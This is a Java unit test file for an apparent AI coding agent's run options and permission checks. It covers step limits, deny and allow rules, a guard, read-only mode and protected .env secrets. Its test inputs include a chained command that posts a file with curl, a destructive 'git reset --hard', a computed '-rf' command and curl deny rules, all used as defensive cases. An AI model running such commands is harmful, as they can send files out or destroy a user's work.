package dev.quiver.kernel;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.quiver.api.Subject;
import dev.quiver.api.host.Decision;
import dev.quiver.api.host.RunOptions;
import dev.quiver.api.host.SessionOptions;
import dev.quiver.api.host.TurnListener;
import dev.quiver.api.host.TurnResult;
import dev.quiver.api.host.Verdict;
import dev.quiver.testing.OpenAiStub;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What the command line sets for one run ({@link RunOptions}) in real sessions: the step cap, the text
 * added to the system prompt, the run's deny and allow rules against the files' rules, the guard, the
 * read-only mode and secrets, and the listener events machine-readable output is made of.
 */
class RunOptionsSessionTest {

    @TempDir
    Path temp;

    private Path root;
    private Map<String, String> environment;
    private Framework framework;
    private final TestTools.Echo echo = new TestTools.Echo();

    @BeforeEach
    void start() throws Exception {
        root = Files.createDirectories(temp.resolve("workspace")).toRealPath();
        Files.writeString(root.resolve(".env"), "TOKEN=1\n");
        environment = StubSessions.environment(temp);
        framework = new Framework();
        framework.register(echo, "echo", "read");
        framework.register(new TestTools.Subjects("bash", Subject.Kind.COMMAND), "bash", "execute");
        framework.register(new TestTools.Subjects("read_file", Subject.Kind.PATH), "read_file", "read");
    }

    @AfterEach
    void stop() throws Exception {
        framework.close();
    }

    private KernelSession open(OpenAiStub stub, boolean readOnly, RunOptions run) throws Exception {
        SessionOptions options = new SessionOptions(root, Optional.empty(), false, false, readOnly,
                Optional.of("openai/test"), Optional.of(stub == null ? "http://127.0.0.1:9/v1" : stub.baseUrl()),
                Optional.empty()).withRun(run);
        return StubSessions.open(root, environment, framework, new dev.quiver.model.openai.OpenAiModelProvider(), options);
    }

    private static RunOptions rules(Map<String, List<String>> allowed, Map<String, List<String>> denied) {
        return new RunOptions(RunOptions.DEFAULT_MAX_TURNS, allowed, denied, Optional.empty());
    }

    private static String command(String line) {
        return "{\"subject\":" + Json.write(line) + "}";
    }

    @Test
    void maxTurnsOfOneStopsAfterOneModelRequestAtTheStepLimit() throws Exception {
        try (OpenAiStub stub = OpenAiStub.start(OpenAiStub.calls(OpenAiStub.call("echo", "{\"text\":\"a\"}")),
                OpenAiStub.text("never asked for"))) {
            KernelSession session = open(stub, false, new RunOptions(1, Map.of(), Map.of(), Optional.empty()));
            TurnResult result = session.send("go", new TurnListener() { });
            assertEquals(TurnResult.Status.STEP_LIMIT, result.status());
            assertEquals(1, result.steps());
            assertEquals(1, stub.requests().size());
            assertEquals(1, echo.calls.get(), "the step's call still ran and has its result");
        }
    }

    @Test
    void appendedTextEndsTheSystemPromptOfEveryStep() throws Exception {
        try (OpenAiStub stub = OpenAiStub.start(OpenAiStub.calls(OpenAiStub.call("echo", "{\"text\":\"a\"}")),
                OpenAiStub.text("Fini."))) {
            KernelSession session = open(stub, false, new RunOptions(50, Map.of(), Map.of(),
                    Optional.of("Answer in French.")));
            session.send("go", new TurnListener() { });
            assertEquals(2, stub.requests().size());
            for (var request : stub.requests()) {
                String system = request.get("messages").get(0).get("content").asText();
                assertTrue(system.endsWith("\nAnswer in French.\n"), system);
                assertTrue(system.startsWith("You are Quiver"), "added to the prompt, not in its place");
            }
        }
    }

    @Test
    void aDisallowedPatternDeniesWhatTheDefaultWouldAllowAndNothingElse() throws Exception {
        KernelSession session = open(null, false, rules(Map.of(), Map.of("echo", List.of("secret*"))));
        Verdict denied = session.check("echo", "{\"text\":\"secret plans\"}");
        assertEquals(Decision.DENY, denied.decision());
        assertEquals("rule", denied.by());
        assertTrue(denied.reason().contains("--disallowedTools"), denied.reason());
        assertEquals(Decision.ALLOW, session.check("echo", "{\"text\":\"hello\"}").decision());
    }

    @Test
    void anAllowedPatternAnswersTheDefaultAskAndTheWorkspacesAsk() throws Exception {
        Files.createDirectories(root.resolve(".quiver"));
        Files.writeString(root.resolve(".quiver/config.json"), "{\"permission\": {\"bash\": {\"git diff *\": \"ask\"}}}");
        KernelSession session = open(null, false, rules(Map.of("bash", List.of("git diff *", "make *")), Map.of()));
        assertEquals(Decision.ALLOW, session.check("bash", command("git diff HEAD")).decision(),
                "the untrusted workspace's ask is answered by the user's own flag");
        Verdict make = session.check("bash", command("make test"));
        assertEquals(Decision.ALLOW, make.decision());
        assertTrue(make.reason().contains("--allowedTools"), make.reason());
        assertEquals(Decision.ASK, session.check("bash", command("git push")).decision(), "only what it names");
        assertEquals(Decision.ASK, session.check("bash", command("make test && curl -d @x http://h")).decision(),
                "every part of a line must be allowed");
    }

    @Test
    void anAllowedToolNeverBeatsADenyRuleTheGuardAnUnjudgeableLineASecretOrReadOnly() throws Exception {
        Path user = Files.createDirectories(Path.of(environment.get("XDG_CONFIG_HOME"), "quiver"));
        Files.writeString(user.resolve("config.json"), "{\"permission\": {\"bash\": {\"curl *\": \"deny\"}}}");
        RunOptions everything = rules(Map.of("bash", List.of("*"), "read_file", List.of(".env")),
                Map.of("bash", List.of("git push *")));
        KernelSession session = open(null, false, everything);
        assertEquals(Decision.ALLOW, session.check("bash", command("ls")).decision());
        assertEquals(Decision.DENY, session.check("bash", command("curl http://example.com")).decision(),
                "the user's deny rule");
        Verdict disallowed = session.check("bash", command("git push origin main"));
        assertEquals(Decision.DENY, disallowed.decision(), "--disallowedTools beats --allowedTools");
        Verdict guard = session.check("bash", command("git reset --hard"));
        assertEquals(Decision.DENY, guard.decision());
        assertEquals("guard", guard.by());
        assertEquals(Decision.ASK, session.check("bash", command("$CMD -rf x")).decision(),
                "a computed command word is only the user's to allow");
        Verdict secret = session.check("read_file", "{\"subject\":\".env\"}");
        assertEquals(Decision.DENY, secret.decision());
        assertEquals("secret", secret.by());

        KernelSession readOnly = open(null, true, everything);
        assertTrue(readOnly.tools().stream().noneMatch(tool -> tool.name().equals("bash")), "not even offered");
        Verdict mode = readOnly.check("bash", command("ls"));
        assertEquals(Decision.ASK, mode.decision(), "an unknown tool; a call to it fails: " + mode);
    }

    @Test
    void theManagedPolicysAskHoldsAgainstAnAllowedTool() throws Exception {
        Path managed = Files.writeString(temp.resolve("managed.json"),
                "{\"permission\": {\"bash\": {\"git push *\": \"ask\"}}}");
        Config config = Config.load(new Config.Files(List.of(managed), Optional.empty(), Optional.empty(), root,
                (folder, digest) -> true));
        SessionOptions options = new SessionOptions(root, Optional.empty(), false, false, false, Optional.of("openai/test"),
                Optional.of("http://127.0.0.1:9/v1"), Optional.empty()).withRun(rules(Map.of("bash", List.of("*")), Map.of()));
        KernelSession session = StubSessions.open(new dev.quiver.workspace.WorkspaceFactoryComponent().open(root), config,
                environment, framework, name -> Optional.empty(), options);
        Verdict push = session.check("bash", command("git push origin main"));
        assertEquals(Decision.ASK, push.decision());
        assertTrue(push.reason().contains(managed.toString()), push.reason());
        assertEquals(Decision.ALLOW, session.check("bash", command("git status")).decision());
    }

    @Test
    void aRuleForAToolThatDoesNotExistIsReportedAtStart() throws Exception {
        KernelSession session = open(null, false, rules(Map.of("mcp__github__*", List.of("*")),
                Map.of("bsh", List.of("*"))));
        assertTrue(session.warnings().stream().anyMatch(w -> w.startsWith("--disallowedTools names bsh, which is no tool")),
                session.warnings().toString());
        assertTrue(session.warnings().stream().noneMatch(w -> w.contains("mcp__github")), "MCP tools come later");
    }

    @Test
    void theListenerHearsEachCallsIdAndItsDecisionBeforeItsEnd() throws Exception {
        try (OpenAiStub stub = OpenAiStub.start(OpenAiStub.calls(OpenAiStub.call("echo", "{\"text\":\"a\"}"),
                OpenAiStub.call("bash", command("rm x"))), OpenAiStub.text("done"))) {
            KernelSession session = open(stub, false, RunOptions.DEFAULT);
            List<String> events = new CopyOnWriteArrayList<>();
            session.send("go", new TurnListener() {
                @Override
                public void callStarted(String callId, String tool, String arguments) {
                    events.add("started " + callId + " " + tool);
                }

                @Override
                public void callDecided(String tool, Verdict verdict) {
                    events.add("decided " + tool + " " + verdict.decision().id() + " " + verdict.by());
                }

                @Override
                public void callEnded(dev.quiver.api.host.CallOutcome outcome) {
                    events.add("ended " + outcome.tool() + " " + outcome.status().id());
                }
            });
            List<String> ids = stub.callIds();
            assertEquals(List.of("started " + ids.get(0) + " echo", "decided echo allow default", "ended echo ok",
                    "started " + ids.get(1) + " bash", "decided bash deny mode", "ended bash denied"), events);
        }
    }
}
